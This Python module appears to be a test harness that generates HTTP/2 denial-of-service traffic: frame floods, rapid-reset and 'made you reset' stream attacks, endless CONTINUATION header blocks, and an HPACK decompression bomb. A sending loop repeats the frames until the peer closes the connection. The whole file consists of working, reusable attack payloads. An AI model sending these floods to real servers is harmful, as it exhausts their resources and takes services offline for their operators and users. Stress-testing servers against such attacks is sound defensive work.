"""What attackers of HTTP/2 send: floods of frames, header blocks that do not end or explode, streams that stand still."""

from h2_wire import (INITIAL_WINDOW, PRIORITY, ask, block, continuation, data, frame, headers, indexed, literal, ping,
                     priority, rst_stream, settings, window_update)

CALM = 11


def get(number, path):
    return headers(2 * number + 1, block(*ask(path)))


def hold(number, path):
    """A POST whose body is still to come."""
    return headers(2 * number + 1, block(*ask(path, method="POST")), end=False)


# One frame, or what belongs together, by its number on a connection.
FLOODS = {
    "PING": lambda number: ping(b"%08d" % number),
    "PING ACK": lambda number: ping(b"%08d" % number, flags=1),
    "SETTINGS": lambda number: settings((INITIAL_WINDOW, 65535)),
    "empty SETTINGS": lambda number: settings(),
    "WINDOW_UPDATE": lambda number: window_update(0, 1),
    "PRIORITY": lambda number: priority(2 * number + 1, 2 * number + 3),
    "PRIORITY of one stream": lambda number: priority(1, 3 + 2 * (number % 100)),
    "unknown frames": lambda number: frame(0x70, 0, 0, b"x" * 8),
    "unknown frames of streams": lambda number: frame(0x71, 0, 2 * number + 1, b""),
    "rapid reset": lambda number: get(number, "/reset") + rst_stream(2 * number + 1),
    "rapid reset with bodies": lambda number: hold(number, "/reset") + data(2 * number + 1, b"x" * 100, False) +
    rst_stream(2 * number + 1),
    "made you reset by an increment of 0": lambda number: get(number, "/made") + window_update(2 * number + 1, 0),
    "made you reset by an overflow": lambda number: get(number, "/made") + window_update(2 * number + 1, (1 << 31) - 1),
    "made you reset by DATA": lambda number: get(number, "/made") + data(2 * number + 1, b"x"),
    "made you reset by a PRIORITY of 4 bytes": lambda number: get(number, "/made") + frame(
        PRIORITY, 0, 2 * number + 1, b"\0\0\0\0"),
    "malformed requests": lambda number: headers(2 * number + 1, block(*ask("/bad"), ("X-Upper", "a"))),
}

# The beginning of a block that does not end, and one CONTINUATION of it, by their name.
CONTINUATIONS = {
    "empty": (b"", b""),
    "one byte": (b"", b"\0"),
    "whole fields": (b"", literal("x", "y")),
    "of 16 KiB": (b"\x00\x01x" + b"\x7f\xff\xff\xff\x07", b"z" * 16384),
}


def endless_block(name):
    """(HEADERS, CONTINUATION to repeat) of one of CONTINUATIONS."""
    more, piece = CONTINUATIONS[name]
    return headers(1, block(*ask("/continued")) + more, whole=False), continuation(1, piece, whole=False)


def bomb_fuse():
    """Leaves an entry of 4,000 bytes in the table."""
    return headers(1, block(*ask("/bomb")) + literal("x-bomb", "y" * 3900, 0x40))


def bomb(number):
    """16 KiB of indices of that entry: 64 MiB of fields."""
    return headers(3 + 2 * number, block(*ask("/bomb")) + indexed(62) * 16000)


def many(wire, count, make, at_once=100):
    """Sends make(0) … make(count-1) until the peer has closed, reading what comes in between as a client would."""
    for begin in range(0, count, at_once):
        wire.send(*(make(number) for number in range(begin, min(begin + at_once, count))))
        wire.poll()
        if wire.closed:
            return
